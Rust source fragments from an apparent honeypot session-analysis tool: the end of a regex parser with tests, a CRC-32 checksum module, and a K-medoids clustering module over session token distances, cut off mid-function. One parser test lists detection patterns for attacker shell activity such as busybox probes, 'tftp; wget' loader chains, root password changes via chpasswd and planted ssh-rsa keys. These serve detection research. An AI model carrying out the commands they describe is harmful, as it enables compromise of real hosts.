            Some(b'r') => Ok(Ast::Byte(b'\r')),
            Some(b'0') => Ok(Ast::Byte(0)),
            Some(b'x') => Ok(Ast::Byte(self.hex_byte()?)),
            Some(b @ (b'1'..=b'9')) => Err(ParseError {
                position: self.pos - 1,
                message: format!("backreference \\{} is not supported", b as char),
            }),
            Some(b) => Ok(Ast::Byte(b)),
        }
    }
}

enum GroupKind {
    Capturing,
    NonCapturing,
    Lookahead(bool),
}

enum ClassAtom {
    Byte(u8),
    Predefined(ClassItem),
}

fn class_of(item: ClassItem) -> Ast {
    Ast::Class {
        negated: false,
        items: vec![item],
    }
}

fn hex_val(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_simple_concat() {
        assert_eq!(
            parse("ab").unwrap(),
            Ast::Concat(vec![Ast::Byte(b'a'), Ast::Byte(b'b')])
        );
    }

    #[test]
    fn parses_alternation_tree() {
        match parse("a|b|c").unwrap() {
            Ast::Alternate(v) => assert_eq!(v.len(), 3),
            other => panic!("unexpected: {other:?}"),
        }
    }

    #[test]
    fn parses_bounds() {
        match parse("a{2,5}").unwrap() {
            Ast::Repeat {
                min: 2,
                max: Some(5),
                greedy: true,
                ..
            } => {}
            other => panic!("unexpected: {other:?}"),
        }
        match parse("a{3,}?").unwrap() {
            Ast::Repeat {
                min: 3,
                max: None,
                greedy: false,
                ..
            } => {}
            other => panic!("unexpected: {other:?}"),
        }
    }

    #[test]
    fn literal_brace_when_not_bounds() {
        // `a{` and `a{x}` treat '{' literally, like Python.
        assert!(parse("a{").is_ok());
        assert!(parse("a{x}").is_ok());
        assert!(parse("{print").is_ok());
    }

    #[test]
    fn rejects_reversed_bounds() {
        assert!(parse("a{5,2}").is_err());
    }

    #[test]
    fn rejects_quantified_anchor() {
        assert!(parse("^*").is_err());
        assert!(parse(r"\b+").is_err());
        assert!(parse("(?=a)*").is_err());
    }

    #[test]
    fn class_corner_cases() {
        // Leading ']' is literal.
        assert_eq!(
            parse("[]a]").unwrap(),
            Ast::Class {
                negated: false,
                items: vec![ClassItem::Byte(b']'), ClassItem::Byte(b'a')]
            }
        );
        // Trailing '-' is literal.
        assert_eq!(
            parse("[a-]").unwrap(),
            Ast::Class {
                negated: false,
                items: vec![ClassItem::Byte(b'a'), ClassItem::Byte(b'-')]
            }
        );
    }

    #[test]
    fn rejects_backreferences() {
        assert!(parse(r"(a)\1").is_err());
    }

    #[test]
    fn rejects_unknown_group_flag() {
        assert!(parse("(?P<name>a)").is_err());
    }

    #[test]
    fn parses_every_table1_style_pattern() {
        for pat in [
            r"mdrfckr",
            r"\\x6F\\x6B",
            r"echo ok",
            r"SSH check",
            r"\becho\b\s+[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}",
            r"uname\s+-a",
            r"uname\s+-s\s+-v\s+-n\s+-r\s+-m",
            r"(?=.*nproc)(?=.*\buname\s+-a\b)",
            r"(?=.*/bin/busybox\s+([a-zA-Z0-9]{5}))(?=.*tftp;\s+wget)",
            r"/bin/busybox\s+cat\s+/proc/self/exe\s*\|\|\s*cat\s+/proc/self/exe",
            r"loader\.wget",
            r"\\x45\\x4c\\x46",
            r"/bin/busybox\s|busybox\s",
            r"juicessh",
            r"(?:.*Password123)(?=.*daemon).*",
            r"ssh-rsa\s+AAAAB3NzaC1yc2EAAAADAQABA",
            r"root:[A-Za-z0-9]{15,}\|chpasswd",
            r"-max-redir",
            r"lenni0451",
            r"(?=.*CPU\(s\):)(?=.*bin\.x86_64)",
            r"export VEI",
            r"\bclamav\b",
            r"openssl passwd -1 \S{8}",
            r"cloud\s+print",
            r"(?=.*\$\bSHELL\b)(?=.*bs=22)",
            r"(?=.*root:[A-Za-z0-9]{12})(?=.*awk\s+'\{print\s+\$4,\$5,\$6,\$7,\$8,\$9;\}')",
            r"(?=.*perl)(?=.*dred)",
            r"(?=.*stx)(?=.*LC_ALL)",
            r"update\.sh",
            r"(?=.*\\x41\\x4b\\x34\\x37)(?=.*writable)",
            r"(?=.*curl)(?=.*echo)(?=.*ftp)(?=.*wget)",
        ] {
            parse(pat).unwrap_or_else(|e| panic!("failed to parse {pat:?}: {e}"));
        }
    }
}
