//! CRC-32 (IEEE 802.3, reflected polynomial `0xEDB88320`).
//!
//! Integrity checksum for the `sessiondb` on-disk format: every block of
//! a segment file carries the CRC of its payload so that torn writes and
//! bit flips are detected at read time instead of surfacing as garbage
//! records downstream. The implementation is the classic single
//! 256-entry-table byte-at-a-time variant — fast enough that hashing is
//! never the bottleneck next to disk I/O, and small enough to audit.

/// The 256-entry lookup table for the reflected IEEE polynomial.
const fn build_table() -> [u32; 256] {
    let mut table = [0u32; 256];
    let mut i = 0;
    while i < 256 {
        let mut crc = i as u32;
        let mut bit = 0;
        while bit < 8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
            bit += 1;
        }
        table[i] = crc;
        i += 1;
    }
    table
}

static TABLE: [u32; 256] = build_table();

/// A streaming CRC-32 state. Feed bytes with [`Crc32::update`], read the
/// digest with [`Crc32::finish`].
#[derive(Debug, Clone)]
pub struct Crc32 {
    state: u32,
}

impl Default for Crc32 {
    fn default() -> Self {
        Self::new()
    }
}

impl Crc32 {
    /// A fresh state.
    pub fn new() -> Self {
        Self { state: 0xFFFF_FFFF }
    }

    /// Folds `bytes` into the checksum.
    pub fn update(&mut self, bytes: &[u8]) {
        let mut crc = self.state;
        for &b in bytes {
            crc = (crc >> 8) ^ TABLE[((crc ^ b as u32) & 0xFF) as usize];
        }
        self.state = crc;
    }

    /// The final checksum value.
    pub fn finish(&self) -> u32 {
        self.state ^ 0xFFFF_FFFF
    }
}

/// One-shot CRC-32 of a byte slice.
pub fn crc32(bytes: &[u8]) -> u32 {
    let mut c = Crc32::new();
    c.update(bytes);
    c.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_vectors() {
        // Standard check value for "123456789".
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(crc32(b""), 0);
        assert_eq!(crc32(b"a"), 0xE8B7_BE43);
        assert_eq!(
            crc32(b"The quick brown fox jumps over the lazy dog"),
            0x414F_A339
        );
    }

    #[test]
    fn streaming_matches_one_shot() {
        let data = b"attacks come to those who wait";
        let mut c = Crc32::new();
        for chunk in data.chunks(7) {
            c.update(chunk);
        }
        assert_eq!(c.finish(), crc32(data));
    }

    #[test]
    fn detects_single_bit_flip() {
        let mut data = vec![0u8; 1024];
        for (i, b) in data.iter_mut().enumerate() {
            *b = (i % 251) as u8;
        }
        let clean = crc32(&data);
        data[512] ^= 0x10;
        assert_ne!(crc32(&data), clean);
    }
}
