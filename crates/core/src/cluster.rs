//! Session clustering over token-DLD (paper §6).
//!
//! The paper runs "K-Means using the \[DLD\] scoring function" over the
//! pairwise distance matrix — i.e. centroids are data points, which is
//! K-medoids. We implement weighted K-medoids (PAM-style alternating
//! assignment/update) over *unique session signatures* weighted by session
//! count: clustering identical sessions repeatedly is pure waste, and the
//! weighting keeps every statistic identical to clustering the raw
//! sessions. Cluster-count selection uses the same two diagnostics as the
//! paper: the WCSS elbow and the silhouette score.
//!
//! The hot path is rebuilt for scale (see DESIGN.md §12): signature tokens
//! are interned to dense `u32` ids so DLD compares registers instead of
//! heap strings; the matrix stores only the packed upper triangle
//! (`n(n+1)/2` cells — half the memory and half the DLD calls); the build
//! is tiled over an atomic-cursor scheduler with per-worker reusable DP
//! scratch; and [`k_medoids`] caches per-cluster member lists plus
//! FastPAM-style nearest/second-nearest medoid distances so later rounds
//! only touch clusters whose medoid actually moved. Every optimisation is
//! pinned exactly equivalent to the pre-optimisation path (kept verbatim
//! in [`naive`]) by `tests/prop_cluster.rs` — same cells, same
//! `assignment`, same `medoids`, at every thread count.

use crate::dld::{dld_banded, dld_with_scratch, DldScratch};
use crate::intern::Interner;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

/// Read-only pairwise-distance lookup, implemented by both the packed
/// [`DistanceMatrix`] and the dense [`naive::DenseMatrix`] so the naive
/// clustering oracle can run over either representation.
pub trait DistanceLookup: Sync {
    /// Number of points.
    fn len(&self) -> usize;
    /// Distance between points `i` and `j`.
    fn get(&self, i: usize, j: usize) -> f64;
    /// Whether the matrix is empty.
    fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

/// A symmetric distance matrix over `n` points, stored as the packed
/// upper triangle (diagonal included): `n(n+1)/2` cells.
pub struct DistanceMatrix {
    n: usize,
    /// Row-major packed upper triangle: row `i` holds `d(i, i..n)`.
    d: Vec<f64>,
}

impl DistanceMatrix {
    /// Below this many signatures [`Self::build`] skips thread spawning
    /// entirely — the whole triangle is cheaper than a spawn.
    pub const SERIAL_THRESHOLD: usize = 256;

    /// Number of points.
    pub fn len(&self) -> usize {
        self.n
    }

    /// Whether the matrix is empty.
    pub fn is_empty(&self) -> bool {
        self.n == 0
    }

    /// Distance between points `i` and `j`.
    #[inline]
    pub fn get(&self, i: usize, j: usize) -> f64 {
        let (a, b) = if i <= j { (i, j) } else { (j, i) };
        // Row `a` starts after the a previous rows of n, n-1, … cells:
        // offset = Σ_{r<a}(n−r) = a(2n−a+1)/2.
        self.d[a * (2 * self.n - a + 1) / 2 + (b - a)]
    }

    /// The packed upper triangle, row-major (row `i` = `d(i, i..n)`).
    pub fn as_packed(&self) -> &[f64] {
        &self.d
    }

    /// The default worker count: every core the host offers.
    pub fn default_threads() -> usize {
        std::thread::available_parallelism().map_or(4, |p| p.get())
    }

    /// Builds the normalized token-DLD matrix: interned tokens, packed
    /// triangle, serial below [`Self::SERIAL_THRESHOLD`] points, otherwise
    /// tiled across [`Self::default_threads`] workers.
    pub fn build(signatures: &[Vec<String>]) -> Self {
        let threads = if signatures.len() < Self::SERIAL_THRESHOLD {
            1
        } else {
            Self::default_threads()
        };
        Self::build_with_threads(signatures, threads)
    }

    /// Exact build with an explicit worker count (`1` = fully serial; no
    /// size threshold is applied). Output is identical for every count.
    pub fn build_with_threads(signatures: &[Vec<String>], threads: usize) -> Self {
        Self::build_inner(signatures, threads, None)
    }

    /// Band-limited approximate build: a cell whose normalized distance
    /// exceeds `cap` is stored as `1.0` instead of its exact value. Cells
    /// at or under the cap are exact (Ukkonen banding is lossless within
    /// the band), so "near" structure — the part clustering relies on —
    /// is preserved while far pairs exit the DP early or skip it entirely
    /// via the length lower bound.
    pub fn build_banded(signatures: &[Vec<String>], threads: usize, cap: f64) -> Self {
        Self::build_inner(signatures, threads, Some(cap))
    }

    fn build_inner(signatures: &[Vec<String>], threads: usize, cap: Option<f64>) -> Self {
        let n = signatures.len();
        let (_, ids) = Interner::intern_signatures(signatures);
        let mut d = vec![0.0f64; n * (n + 1) / 2];
        if n > 0 {
            if threads <= 1 {
                let mut scratch = DldScratch::new();
                fill_rows(&ids, 0, n, &mut d, &mut scratch, cap);
            } else {
                build_tiled(&ids, &mut d, threads, cap);
            }
        }
        Self { n, d }
    }
}

impl DistanceLookup for DistanceMatrix {
    fn len(&self) -> usize {
        self.n
    }
    fn get(&self, i: usize, j: usize) -> f64 {
        DistanceMatrix::get(self, i, j)
    }
}

/// One packed-triangle cell: exact normalized DLD, or the band-capped
/// variant when `cap` is set.
#[inline]
fn cell(a: &[u32], b: &[u32], scratch: &mut DldScratch, cap: Option<f64>) -> f64 {
    let max = a.len().max(b.len());
    if max == 0 {
        return 0.0;
    }
    match cap {
        None => dld_with_scratch(a, b, scratch) as f64 / max as f64,
        Some(cap) => {
            let band = (cap * max as f64).floor() as usize;
            match dld_banded(a, b, band) {
                Some(d) => d as f64 / max as f64,
                None => 1.0,
            }
        }
    }
}

/// Fills the packed cells of triangle rows `r0..r1` into `out`, which must
/// be exactly those rows' contiguous packed range.
fn fill_rows(
    ids: &[Vec<u32>],
    r0: usize,
    r1: usize,
    out: &mut [f64],
    scratch: &mut DldScratch,
    cap: Option<f64>,
) {
    let n = ids.len();
    let mut off = 0usize;
    for i in r0..r1 {
        let a = &ids[i];
        let row = &mut out[off..off + (n - i)];
        for (j, slot) in (i..n).zip(row.iter_mut()) {
            *slot = if j == i {
                0.0
            } else {
                cell(a, &ids[j], scratch, cap)
            };
        }
        off += n - i;
    }
}

/// Tiled parallel build: the triangle is cut into row blocks of roughly
/// equal *cell* count (fixed-height blocks load-balance badly once only
/// the triangle is computed — early rows are long, late rows short), and
/// workers pull blocks off an atomic cursor, same pattern as
/// `sessiondb::par_scan_map`. Each worker reuses one DP scratch across
/// every pair it computes.
fn build_tiled(ids: &[Vec<u32>], d: &mut [f64], threads: usize, cap: Option<f64>) {
    let n = ids.len();
    let target = d.len().div_ceil(threads * 8).max(32);
    let mut tiles: Vec<Mutex<(usize, usize, &mut [f64])>> = Vec::new();
    let mut rest = d;
    let mut row = 0usize;
    while row < n {
        let (mut end, mut cells) = (row, 0usize);
        while end < n && cells < target {
            cells += n - end;
            end += 1;
        }
        let (head, tail) = rest.split_at_mut(cells);
        tiles.push(Mutex::new((row, end, head)));
        rest = tail;
        row = end;
    }
    let cursor = AtomicUsize::new(0);
    crossbeam::thread::scope(|scope| {
        for _ in 0..threads {
            scope.spawn(|_| {
                let mut scratch = DldScratch::new();
                loop {
                    let t = cursor.fetch_add(1, Ordering::Relaxed);
                    let Some(tile) = tiles.get(t) else {
                        break;
                    };
                    let mut guard = tile.lock().expect("tile lock");
                    let (r0, r1, out) = &mut *guard;
                    fill_rows(ids, *r0, *r1, out, &mut scratch, cap);
                }
            });
        }
    })
    .expect("distance workers never panic");
}

/// A clustering result.
#[derive(Debug, Clone)]
pub struct Clustering {
    /// Cluster index per point.
    pub assignment: Vec<usize>,
    /// Medoid point index per cluster.
    pub medoids: Vec<usize>,
}

impl Clustering {
    /// Number of clusters.
    pub fn k(&self) -> usize {
        self.medoids.len()
    }

    /// Members of cluster `c`.
    pub fn members(&self, c: usize) -> impl Iterator<Item = usize> + '_ {
        self.assignment
            .iter()
            .enumerate()
            .filter(move |(_, a)| **a == c)
            .map(|(i, _)| i)
    }
}

/// Fixed-capacity bitset over point indices (medoid-seeding "already
/// chosen" membership — replaces the `medoids.contains(&i)` linear scan).
struct BitSet {
    words: Vec<u64>,
}

impl BitSet {
    fn new(n: usize) -> Self {
        Self {
            words: vec![0; n.div_ceil(64)],
        }
    }
    #[inline]
    fn insert(&mut self, i: usize) {
        self.words[i / 64] |= 1 << (i % 64);
    }
    #[inline]
    fn contains(&self, i: usize) -> bool {
        self.words[i / 64] & (1 << (i % 64)) != 0
    }
}

/// `(d1, c1) < (d2, c2)` lexicographically — the order under which "first
/// minimal index of an in-order scan" and "minimum" coincide, which is
/// what keeps the cached-assignment path identical to the naive rescan.
#[inline]
fn lex_lt(d1: f64, c1: usize, d2: f64, c2: usize) -> bool {
    d1 < d2 || (d1 == d2 && c1 < c2)
}

/// Applies cluster `c`'s medoid move (point-to-new-medoid distance
/// `d_new`) to one point's cached nearest/second-nearest pair. Returns
/// `true` when the top-2 cache cannot be maintained locally (the true
/// second-nearest may be the untracked third) and a full rescan of that
/// point is required.
#[inline]
fn apply_move(
    d_new: f64,
    c: usize,
    dn: &mut f64,
    nc: &mut usize,
    ds: &mut f64,
    sc: &mut usize,
) -> bool {
    if c == *nc {
        if !lex_lt(*ds, *sc, d_new, c) {
            // Still (lexicographically) ahead of the second: stays nearest.
            *dn = d_new;
            false
        } else {
            true
        }
    } else if c == *sc {
        if lex_lt(d_new, c, *dn, *nc) {
            *ds = *dn;
            *sc = *nc;
            *dn = d_new;
            *nc = c;
            false
        } else if d_new <= *ds {
            // Second got closer (every other cluster was already ≥ the
            // old second in lexicographic order, so it keeps the slot).
            *ds = d_new;
            false
        } else {
            true
        }
    } else if lex_lt(d_new, c, *dn, *nc) {
        *ds = *dn;
        *sc = *nc;
        *dn = d_new;
        *nc = c;
        false
    } else if lex_lt(d_new, c, *ds, *sc) {
        *ds = d_new;
        *sc = c;
        false
    } else {
        false
    }
}

/// Weighted K-medoids over a distance matrix. Deterministic under `seed`,
/// and — by construction and by property test — `assignment`/`medoids`
/// identical to [`naive::k_medoids`] for every input.
pub fn k_medoids(m: &DistanceMatrix, weights: &[u64], k: usize, seed: u64) -> Clustering {
    let n = m.len();
    assert_eq!(weights.len(), n, "one weight per point");
    assert!(k >= 1, "need at least one cluster");
    let k = k.min(n.max(1));
    if n == 0 {
        return Clustering {
            assignment: vec![],
            medoids: vec![],
        };
    }
    // k-means++-style farthest-point seeding, weight-aware and seeded.
    // Nearest-chosen-medoid distances are maintained incrementally (one
    // `min` per point per new medoid) instead of re-folded per candidate.
    let mut medoids = Vec::with_capacity(k);
    let mut seen = BitSet::new(n);
    let first = (hutil::rng::derive_seed(seed, "kmedoids-init") % n as u64) as usize;
    medoids.push(first);
    seen.insert(first);
    let mut near_seed = vec![0.0f64; n];
    for (i, slot) in near_seed.iter_mut().enumerate() {
        *slot = m.get(i, first);
    }
    while medoids.len() < k {
        // Pick the point with the largest weighted distance to its nearest
        // chosen medoid (deterministic farthest-point).
        let mut best = (0usize, -1.0f64);
        for (i, &w) in weights.iter().enumerate() {
            if seen.contains(i) {
                continue;
            }
            let score = near_seed[i] * w as f64;
            if score > best.1 {
                best = (i, score);
            }
        }
        let next = best.0;
        medoids.push(next);
        seen.insert(next);
        for (i, slot) in near_seed.iter_mut().enumerate() {
            *slot = slot.min(m.get(i, next));
        }
    }

    // Full nearest/second-nearest scan of one point, lexicographic on
    // (distance, cluster index) — identical winner to the in-order
    // first-minimum scan of the naive assignment step.
    let scan = |i: usize, medoids: &[usize]| -> (f64, usize, f64, usize) {
        let (mut dn, mut nc) = (f64::INFINITY, usize::MAX);
        let (mut ds, mut sc) = (f64::INFINITY, usize::MAX);
        for (c, &med) in medoids.iter().enumerate() {
            let d = m.get(i, med);
            if d < dn {
                ds = dn;
                sc = nc;
                dn = d;
                nc = c;
            } else if d < ds {
                ds = d;
                sc = c;
            }
        }
        (dn, nc, ds, sc)
    };

    let mut assignment = vec![0usize; n];
    let (mut dn, mut nc) = (vec![0.0f64; n], vec![0usize; n]);
    let (mut ds, mut sc) = (vec![0.0f64; n], vec![0usize; n]);
    let mut members: Vec<Vec<usize>> = vec![Vec::new(); k];
    let mut moved: Vec<usize> = Vec::new();
    let mut first_round = true;
    for _round in 0..50 {
        // Assign: full scan on the first round, then cache maintenance
        // touching only clusters whose medoid moved last round.
        if std::mem::take(&mut first_round) {
            for i in 0..n {
                (dn[i], nc[i], ds[i], sc[i]) = scan(i, &medoids);
            }
        } else {
            for i in 0..n {
                for &c in &moved {
                    let d_new = m.get(i, medoids[c]);
                    if apply_move(d_new, c, &mut dn[i], &mut nc[i], &mut ds[i], &mut sc[i]) {
                        // Rescan reflects *all* moved medoids at once; the
                        // remaining applies for this point are no-ops.
                        (dn[i], nc[i], ds[i], sc[i]) = scan(i, &medoids);
                    }
                }
            }
        }
        let mut changed = false;
        for (slot, &best_c) in assignment.iter_mut().zip(nc.iter()) {
            if *slot != best_c {
                *slot = best_c;
                changed = true;
            }
        }
        // Update medoids over member lists gathered in one O(n) pass
        // (the naive path re-filters all n points once per cluster).
        for list in &mut members {
            list.clear();
        }
        for (i, &c) in assignment.iter().enumerate() {
            members[c].push(i);
        }
        moved.clear();
        let mut updated = false;
        for (c, medoid) in medoids.iter_mut().enumerate() {
            let list = &members[c];
            if list.is_empty() {
                continue;
            }
            let mut best = (*medoid, f64::MAX);
            for &cand in list {
                let cost: f64 = list
                    .iter()
                    .map(|&j| m.get(cand, j) * weights[j] as f64)
                    .sum();
                if cost < best.1 {
                    best = (cand, cost);
                }
            }
            if best.0 != *medoid {
                *medoid = best.0;
                updated = true;
                moved.push(c);
            }
        }
        if !changed && !updated {
            break;
        }
    }
    Clustering {
        assignment,
        medoids,
    }
}

/// Weighted within-cluster sum of squared distances to the medoid.
pub fn wcss(m: &DistanceMatrix, weights: &[u64], cl: &Clustering) -> f64 {
    cl.assignment
        .iter()
        .enumerate()
        .map(|(i, &c)| {
            let d = m.get(i, cl.medoids[c]);
            d * d * weights[i] as f64
        })
        .sum()
}

/// Weighted mean silhouette score in `[-1, 1]`; higher is better.
/// Single-member clusters contribute 0, the usual convention.
pub fn silhouette(m: &DistanceMatrix, weights: &[u64], cl: &Clustering) -> f64 {
    let n = m.len();
    let k = cl.k();
    if n == 0 || k < 2 {
        return 0.0;
    }
    // Weighted mean distance from i to each cluster. The per-cluster
    // accumulators are hoisted out of the O(n²) loop and zeroed per point.
    let mut total_w = 0.0;
    let mut total_s = 0.0;
    let mut sums = vec![0.0f64; k];
    let mut ws = vec![0.0f64; k];
    for i in 0..n {
        sums.fill(0.0);
        ws.fill(0.0);
        for (j, &wj) in weights.iter().enumerate().take(n) {
            if i == j {
                continue;
            }
            let c = cl.assignment[j];
            sums[c] += m.get(i, j) * wj as f64;
            ws[c] += wj as f64;
        }
        let own = cl.assignment[i];
        // Own-cluster weight excluding i itself but counting i's own
        // multiplicity minus one (duplicates of i are distance 0 anyway);
        // saturating so a zero-weight point cannot wrap to ~1.8e19.
        let own_extra = weights[i].saturating_sub(1) as f64;
        let a_den = ws[own] + own_extra;
        let a = if a_den > 0.0 { sums[own] / a_den } else { 0.0 };
        let b = (0..k)
            .filter(|&c| c != own && ws[c] > 0.0)
            .map(|c| sums[c] / ws[c])
            .fold(f64::MAX, f64::min);
        if b == f64::MAX {
            continue;
        }
        let s = if a_den > 0.0 {
            (b - a) / a.max(b).max(f64::MIN_POSITIVE)
        } else {
            0.0
        };
        total_s += s * weights[i] as f64;
        total_w += weights[i] as f64;
    }
    if total_w > 0.0 {
        total_s / total_w
    } else {
        0.0
    }
}

/// Runs the k-sweep used for cluster-count selection: returns
/// `(k, wcss, silhouette)` per candidate.
pub fn sweep_k(
    m: &DistanceMatrix,
    weights: &[u64],
    ks: &[usize],
    seed: u64,
) -> Vec<(usize, f64, f64)> {
    ks.iter()
        .map(|&k| {
            let cl = k_medoids(m, weights, k, seed);
            (k, wcss(m, weights, &cl), silhouette(m, weights, &cl))
        })
        .collect()
}

/// Elbow pick: the k whose WCSS curve has maximum discrete curvature
/// (second difference).
///
/// **Precondition:** `points` must be sorted by k ascending (as
/// [`sweep_k`] returns them) — the second difference of an unsorted curve
/// is meaningless. Debug builds assert this.
pub fn select_k_elbow(points: &[(usize, f64)]) -> usize {
    debug_assert!(
        points.windows(2).all(|w| w[0].0 < w[1].0),
        "select_k_elbow expects points sorted by k ascending"
    );
    if points.len() < 3 {
        return points.last().map_or(1, |p| p.0);
    }
    let mut best = (points[1].0, f64::MIN);
    for w in points.windows(3) {
        let curv = w[0].1 - 2.0 * w[1].1 + w[2].1;
        if curv > best.1 {
            best = (w[1].0, curv);
        }
    }
    best.0
}

/// Orders cluster indices by ascending mean token count of their members —
/// the paper's presentation order (Cluster 1 shortest … Cluster 90 longest).
pub fn order_by_avg_tokens(
    signatures: &[Vec<String>],
    weights: &[u64],
    cl: &Clustering,
) -> Vec<usize> {
    let mut stats = vec![(0.0f64, 0.0f64); cl.k()];
    for (i, &c) in cl.assignment.iter().enumerate() {
        stats[c].0 += signatures[i].len() as f64 * weights[i] as f64;
        stats[c].1 += weights[i] as f64;
    }
    let mut order: Vec<usize> = (0..cl.k()).collect();
    order.sort_by(|&a, &b| {
        let ma = if stats[a].1 > 0.0 {
            stats[a].0 / stats[a].1
        } else {
            f64::MAX
        };
        let mb = if stats[b].1 > 0.0 {
            stats[b].0 / stats[b].1
        } else {
            f64::MAX
        };
        ma.partial_cmp(&mb).expect("no NaN means")
    });
    order
}

pub mod naive {
    //! The pre-optimisation clustering path, kept verbatim: dense `n × n`
    //! matrix over heap `String` tokens (both triangle halves plus the
    //! diagonal), per-pair DP-row allocations, row-block thread chunking,
    //! `medoids.contains` seeding scans, and per-cluster member re-scans
    //! every round. It is the equivalence oracle for `tests/prop_cluster.rs`
    //! and the baseline the `cluster` bench measures speedups against.
    //! (The one deliberate divergence: [`silhouette`] carries the same
    //! zero-weight `saturating_sub` fix as the optimized path, so the two
    //! agree on *every* input.)

    use super::{Clustering, DistanceLookup};
    use crate::dld::normalized_dld;

    /// The original dense symmetric matrix: `n × n` cells, every one an
    /// independent [`normalized_dld`] over `Vec<String>` signatures.
    pub struct DenseMatrix {
        n: usize,
        d: Vec<f64>,
    }

    impl DenseMatrix {
        /// Number of points.
        pub fn len(&self) -> usize {
            self.n
        }

        /// Whether the matrix is empty.
        pub fn is_empty(&self) -> bool {
            self.n == 0
        }

        /// Distance between points `i` and `j`.
        #[inline]
        pub fn get(&self, i: usize, j: usize) -> f64 {
            self.d[i * self.n + j]
        }

        /// Builds the full dense matrix, splitting row blocks across up
        /// to 16 worker threads (each block is a disjoint `&mut` slice).
        pub fn build(signatures: &[Vec<String>]) -> Self {
            let n = signatures.len();
            let mut d = vec![0.0f64; n * n];
            let threads = std::thread::available_parallelism()
                .map_or(4, |p| p.get())
                .min(16);
            Self::build_rows(signatures, &mut d, threads);
            Self { n, d }
        }

        fn build_rows(signatures: &[Vec<String>], d: &mut [f64], threads: usize) {
            let n = signatures.len();
            if n == 0 {
                return;
            }
            let chunk_rows = n.div_ceil(threads.max(1)).max(1);
            crossbeam::thread::scope(|scope| {
                for (chunk_idx, rows) in d.chunks_mut(chunk_rows * n).enumerate() {
                    let base = chunk_idx * chunk_rows;
                    scope.spawn(move |_| {
                        for (r, row) in rows.chunks_mut(n).enumerate() {
                            let i = base + r;
                            for (j, cell) in row.iter_mut().enumerate() {
                                *cell = normalized_dld(&signatures[i], &signatures[j]);
                            }
                        }
                    });
                }
            })
            .expect("distance workers never panic");
        }
    }

    impl DistanceLookup for DenseMatrix {
        fn len(&self) -> usize {
            self.n
        }
        fn get(&self, i: usize, j: usize) -> f64 {
            DenseMatrix::get(self, i, j)
        }
    }

    /// The original weighted K-medoids, generic over the matrix
    /// representation so it can oracle either path.
    pub fn k_medoids<M: DistanceLookup>(m: &M, weights: &[u64], k: usize, seed: u64) -> Clustering {
        let n = m.len();
        assert_eq!(weights.len(), n, "one weight per point");
        assert!(k >= 1, "need at least one cluster");
        let k = k.min(n.max(1));
        if n == 0 {
            return Clustering {
                assignment: vec![],
                medoids: vec![],
            };
        }
        let mut medoids = Vec::with_capacity(k);
        let first = (hutil::rng::derive_seed(seed, "kmedoids-init") % n as u64) as usize;
        medoids.push(first);
        while medoids.len() < k {
            let mut best = (0usize, -1.0f64);
            for (i, &w) in weights.iter().enumerate().take(n) {
                if medoids.contains(&i) {
                    continue;
                }
                let near = medoids
                    .iter()
                    .map(|&c| m.get(i, c))
                    .fold(f64::MAX, f64::min);
                let score = near * w as f64;
                if score > best.1 {
                    best = (i, score);
                }
            }
            medoids.push(best.0);
        }

        let mut assignment = vec![0usize; n];
        for _round in 0..50 {
            let mut changed = false;
            for (i, slot) in assignment.iter_mut().enumerate().take(n) {
                let (best_c, _) = medoids
                    .iter()
                    .enumerate()
                    .map(|(c, &med)| (c, m.get(i, med)))
                    .min_by(|a, b| a.1.partial_cmp(&b.1).expect("no NaN distances"))
                    .expect("k >= 1");
                if *slot != best_c {
                    *slot = best_c;
                    changed = true;
                }
            }
            let mut updated = false;
            for (c, medoid) in medoids.iter_mut().enumerate() {
                let members: Vec<usize> = (0..n).filter(|&i| assignment[i] == c).collect();
                if members.is_empty() {
                    continue;
                }
                let mut best = (*medoid, f64::MAX);
                for &cand in &members {
                    let cost: f64 = members
                        .iter()
                        .map(|&j| m.get(cand, j) * weights[j] as f64)
                        .sum();
                    if cost < best.1 {
                        best = (cand, cost);
                    }
                }
                if best.0 != *medoid {
                    *medoid = best.0;
                    updated = true;
                }
            }
            if !changed && !updated {
                break;
            }
        }
        Clustering {
            assignment,
            medoids,
        }
    }

    /// The original weighted WCSS.
    pub fn wcss<M: DistanceLookup>(m: &M, weights: &[u64], cl: &Clustering) -> f64 {
        cl.assignment
            .iter()
            .enumerate()
            .map(|(i, &c)| {
                let d = m.get(i, cl.medoids[c]);
                d * d * weights[i] as f64
            })
            .sum()
    }

    /// The original weighted silhouette, per-point `vec![0.0; k]`
    /// allocations included (that is part of what the bench measures).
    pub fn silhouette<M: DistanceLookup>(m: &M, weights: &[u64], cl: &Clustering) -> f64 {
        let n = m.len();
        let k = cl.k();
        if n == 0 || k < 2 {
            return 0.0;
        }
        let mut total_w = 0.0;
        let mut total_s = 0.0;
        for i in 0..n {
            let mut sums = vec![0.0f64; k];
            let mut ws = vec![0.0f64; k];
            for (j, &wj) in weights.iter().enumerate().take(n) {
                if i == j {
                    continue;
                }
                let c = cl.assignment[j];
                sums[c] += m.get(i, j) * wj as f64;
                ws[c] += wj as f64;
            }
            let own = cl.assignment[i];
            let own_extra = weights[i].saturating_sub(1) as f64;
            let a_den = ws[own] + own_extra;
            let a = if a_den > 0.0 { sums[own] / a_den } else { 0.0 };
            let b = (0..k)
                .filter(|&c| c != own && ws[c] > 0.0)
                .map(|c| sums[c] / ws[c])
                .fold(f64::MAX, f64::min);
            if b == f64::MAX {
                continue;
            }
            let s = if a_den > 0.0 {
                (b - a) / a.max(b).max(f64::MIN_POSITIVE)
            } else {
                0.0
            };
            total_s += s * weights[i] as f64;
            total_w += weights[i] as f64;
        }
        if total_w > 0.0 {
            total_s / total_w
        } else {
            0.0
        }
    }

    /// The original k-sweep over the naive pieces.
    pub fn sweep_k<M: DistanceLookup>(
        m: &M,
        weights: &[u64],
        ks: &[usize],
        seed: u64,
    ) -> Vec<(usize, f64, f64)> {
        ks.iter()
            .map(|&k| {
